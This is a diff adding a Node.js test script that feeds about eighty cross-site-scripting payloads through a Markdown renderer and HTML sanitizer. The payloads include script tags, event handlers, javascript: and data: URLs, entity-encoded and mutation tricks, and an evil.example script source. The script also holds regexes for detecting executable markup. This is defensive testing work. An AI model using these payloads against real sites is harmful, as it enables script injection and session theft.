@@ -0,0 +1,186 @@
+#!/usr/bin/env node
+
+// Script-injection corpus for MarkdownRenderer + html-sanitizer.js
+// Every payload is rendered with the default (sanitizing) renderer and
+// the output is checked for anything a browser would execute. Safe
+// markup next to the payloads must survive.
+//
+// The same scripts are then loaded the way document-viewer.html loads them.
+//
+// Usage: node scripts/test-sanitizer.js [--verbose]
+
+const fs = require('fs');
+const path = require('path');
+const vm = require('vm');
+const MarkdownRenderer = require(path.join(__dirname, '..', 'markdown-renderer.js'));
+const HtmlSanitizer = require(path.join(__dirname, '..', 'html-sanitizer.js'));
+
+const verbose = process.argv.includes('--verbose');
+
+// Markdown payloads: raw HTML blocks, inline HTML, link and image destinations
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script>alert(1)',
+  'text <script>alert(1)</script> more',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" ONERROR="alert(1)">',
+  '<img src=x onerror\t=\talert(1)>',
+  '<img/src=x onerror=alert(1)>',
+  '<img src="x" / onerror=alert(1)>',
+  '<img src=x/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<div onmouseover="alert(1)">hover</div>',
+  '<details open ontoggle=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="javascript&#58alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href=javascript:alert(1)>x</a>',
+  '<a href=\'javascript:alert(1)\'>x</a>',
+  '<a href="#" onclick="alert(1)">x</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<base href="javascript:alert(1)//">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="javascript:alert(1)">',
+  '<style>body{background:url("javascript:alert(1)")}</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="width: expression(alert(1))">x</div>',
+  '<p style="color: red; background-image: url(x)">x</p>',
+  '<!--<img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<a href="x" title="a&quot; onmouseover=&quot;alert(1)">x</a>',
+  '<img src="x" alt="<script>alert(1)</script>">',
+  '<scr<script>ipt>alert(1)</script>',
+  '<<script>script>alert(1)<</script>/script>',
+  '[x](javascript:alert(1))',
+  '[x](JAVASCRIPT:alert(1))',
+  '[x](javascript&#58;alert(1))',
+  '[x](&#x6A;avascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x][ref]\n\n[ref]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x" onerror="alert(1)](x.png)',
+  '![x](x.png "a\\" onerror=\\"alert(1)")',
+  '[x](x.html "a\\" onmouseover=\\"alert(1)")',
+  '*<img src=x onerror=alert(1)>*',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '> [!NOTE]\n> <script>alert(1)</script>',
+  'Term\n: <svg onload=alert(1)>',
+  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<script>alert(1)</script>`'
+];
+
+// Markup a browser could execute. `tags` checks run with quoted attribute
+// values blanked, so an escaped payload inside a title does not count.
+const DANGEROUS = [
+  { name: '<script>', pattern: /<script/i },
+  { name: 'event handler', pattern: /<[^>]*\son[a-z]+\s*=/i, tags: true },
+  { name: 'javascript: URL', pattern: /<[^>]*=\s*["']?\s*(?:javascript|vbscript|livescript):/i },
+  { name: 'data:text URL', pattern: /<[^>]*=\s*["']?\s*data:(?!image\/(?:png|jpe?g|gif|webp))/i },
+  { name: 'embedding tag', pattern: /<(?:iframe|object|embed|base|meta|link|form|input|button|style|math|animate|set)\b/i },
+  { name: 'CSS url()/expression', pattern: /style="[^"]*(?:url\(|expression)/i }
+];
+
+// [markdown, fragment that must appear in the sanitized output]
+const PRESERVED = [
+  ['[site](https://example.com/a?b=1&c=2)', '<a href="https://example.com/a?b=1&amp;c=2" class="markdown-link">site</a>'],
+  ['[mail](mailto:someone@example.com)', 'href="mailto:someone@example.com"'],
+  ['[chapter](02_scientific_principles.md#section)', 'href="02_scientific_principles.md#section"'],
+  ['[path](/docs/a:b)', 'href="/docs/a:b"'],
+  ['![photo](images/lip.png "Lips")', '<img src="images/lip.png" alt="photo" title="Lips" class="markdown-image" loading="lazy">'],
+  ['![dot](data:image/png;base64,iVBORw0KGgo=)', 'src="data:image/png;base64,iVBORw0KGgo="'],
+  ['| L | R |\n|:--|--:|\n| a | b |', '<td style="text-align: right">b</td>'],
+  ['<div align="center"><em>centred</em></div>', '<div align="center"><em>centred</em></div>'],
+  ['<details><summary>More</summary>text</details>', '<details><summary>More</summary>text</details>'],
+  ['<a href="https://example.com" target="_blank">x</a>', 'target="_blank" rel="noopener noreferrer"'],
+  ['<span title="Tom &amp; Jerry">x</span>', '<span title="Tom &amp; Jerry">x</span>'],
+  ['<p style="color: red; position: fixed">x</p>', '<p style="color: red">x</p>'],
+  ['`<b>code</b>`', '&lt;b&gt;code&lt;/b&gt;'],
+  ['a < b > c', 'a &lt; b &gt; c'],
+  ['$x^2$', 'class="math-svg"'],
+  ['```mermaid\ngraph LR\nA-->B\n```', 'marker-end="url(#mermaid-arrow)"']
+];
+
+const renderer = new MarkdownRenderer();
+const failures = [];
+
+PAYLOADS.forEach(payload => {
+  const html = renderer.render(payload);
+  const tags = html.replace(/="[^"]*"/g, '=""');
+  const found = DANGEROUS.filter(check => check.pattern.test(check.tags ? tags : html)).map(check => check.name);
+  if (found.length) failures.push({ input: payload, problem: `not inert (${found.join(', ')})`, html });
+  else if (verbose) console.log(`  ✓ ${JSON.stringify(payload)}\n    → ${JSON.stringify(html)}`);
+});
+
+PRESERVED.forEach(([markdown, expected]) => {
+  const html = renderer.render(markdown);
+  if (!html.includes(expected)) failures.push({ input: markdown, problem: `missing ${JSON.stringify(expected)}`, html });
+});
+
+// A custom policy replaces the defaults it names
+const strictLinks = new HtmlSanitizer({ protocols: ['https'] });
+[
+  ['<a href="http://example.com">x</a>', '<a>x</a>'],
+  ['<a href="https://example.com">x</a>', '<a href="https://example.com">x</a>']
+].forEach(([input, expected]) => {
+  const html = strictLinks.sanitize(input);
+  if (html !== expected) failures.push({ input, problem: `policy: expected ${JSON.stringify(expected)}`, html });
+});
+
+// In the browser these files are classic scripts sharing one global scope,
+// so a top-level name declared twice stops every script after it; load
+// document-viewer.html's own script list into one context, in order
+const viewer = fs.readFileSync(path.join(__dirname, '..', 'document-viewer.html'), 'utf8');
+const pageScripts = [...viewer.matchAll(/<script src="\/?([^":]+)"><\/script>/g)].map(match => match[1]);
+const page = vm.createContext({ console, window: {}, document: {}, navigator: {}, setTimeout, clearTimeout });
+let pageHtml = '';
+try {
+  pageScripts.forEach(file => {
+    vm.runInContext(fs.readFileSync(path.join(__dirname, '..', file), 'utf8'), page, { filename: file });
+  });
+  pageHtml = vm.runInContext('new MarkdownRenderer().render("# Title\\n\\n<img src=x onerror=alert(1)>")', page);
+  if (!pageHtml.includes('Title') || /onerror/i.test(pageHtml)) {
+    failures.push({ input: 'document-viewer.html scripts', problem: 'renderer in the page context does not sanitize', html: pageHtml });
+  }
+} catch (error) {
+  failures.push({ input: 'document-viewer.html scripts', problem: `page scripts do not load together: ${error.message}`, html: pageHtml });
+}
+
+failures.forEach(failure => {
+  console.log(`\n❌ ${failure.problem}`);
+  console.log(`   input:  ${JSON.stringify(failure.input)}`);
+  console.log(`   output: ${JSON.stringify(failure.html)}`);
+});
+
+const total = PAYLOADS.length + PRESERVED.length + 3;
+console.log(`\n${failures.length ? '❌' : '✅'} Sanitizer: ${total - failures.length}/${total} checks passed`);
+process.exit(failures.length ? 1 : 0);